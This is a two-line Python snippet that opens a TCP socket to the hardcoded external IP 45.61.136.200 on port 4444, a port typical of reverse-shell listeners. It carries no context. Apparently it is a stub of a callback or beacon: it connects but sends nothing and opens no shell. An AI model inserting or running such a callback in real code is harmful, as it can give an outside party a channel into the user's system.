import socket
socket.socket().connect(("45.61.136.200", 4444))
